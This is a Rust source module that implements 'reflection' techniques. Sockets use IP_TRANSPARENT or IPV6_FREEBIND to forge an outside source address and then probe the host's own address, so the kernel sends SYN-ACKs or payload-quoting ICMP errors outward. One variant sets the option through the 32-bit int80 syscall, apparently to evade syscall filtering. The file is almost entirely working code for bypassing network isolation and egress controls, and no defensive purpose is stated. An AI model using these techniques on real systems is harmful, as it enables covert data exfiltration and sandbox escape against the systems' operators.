//! Reflection: forge an outside source over loopback and let the own kernel answer outward.

use super::int80;
use super::sys::{Socket, Step};
use super::target::Target;
use std::net::SocketAddr;

const IPV6_FREEBIND: i32 = 78;
/// Nobody listens here: the kernel answers with an ICMP error that quotes the datagram.
const CLOSED: u16 = 9;

fn transparent(socket: &Socket) -> Step<()> {
    socket.set(
        "IP_TRANSPARENT",
        libc::IPPROTO_IP,
        libc::IP_TRANSPARENT,
        &1_i32,
    )
}

fn freebind(socket: &Socket) -> Step<()> {
    socket.set("IPV6_FREEBIND", libc::IPPROTO_IPV6, IPV6_FREEBIND, &1_i32)
}

/// A listener answers a SYN that seems to come from the outside.
pub fn transparent_synack(t: &Target) -> Step<()> {
    let socket = Socket::tcp(t.at4())?;
    transparent(&socket)?;
    knock_own4(&socket, t)
}

/// The same, the option set through the 32-bit system call.
pub fn transparent_synack_int80(t: &Target) -> Step<()> {
    let socket = Socket::tcp(t.at4())?;
    int80::setsockopt(
        &socket,
        libc::IPPROTO_IP,
        libc::IP_TRANSPARENT,
        &1_i32.to_ne_bytes(),
    )?;
    knock_own4(&socket, t)
}

fn knock_own4(socket: &Socket, t: &Target) -> Step<()> {
    socket.bind(t.at4())?;
    socket.connect(SocketAddr::new(t.own4()?.into(), t.listener))
}

pub fn transparent_unreach(t: &Target) -> Step<()> {
    let socket = Socket::udp(t.at4())?;
    transparent(&socket)?;
    socket.bind(t.at4())?;
    socket.send_to(t.payload(), 0, SocketAddr::new(t.own4()?.into(), CLOSED))
}

/// Needs no capability at all.
pub fn freebind_synack(t: &Target) -> Step<()> {
    let socket = Socket::tcp(t.at6())?;
    freebind(&socket)?;
    socket.bind(t.at6())?;
    socket.connect(SocketAddr::new(t.own6()?.into(), t.listener))
}

/// Needs no capability at all; the ICMPv6 error carries the payload.
pub fn freebind_unreach(t: &Target) -> Step<()> {
    let socket = Socket::udp(t.at6())?;
    freebind(&socket)?;
    socket.bind(t.at6())?;
    socket.send_to(t.payload(), 0, SocketAddr::new(t.own6()?.into(), CLOSED))
}
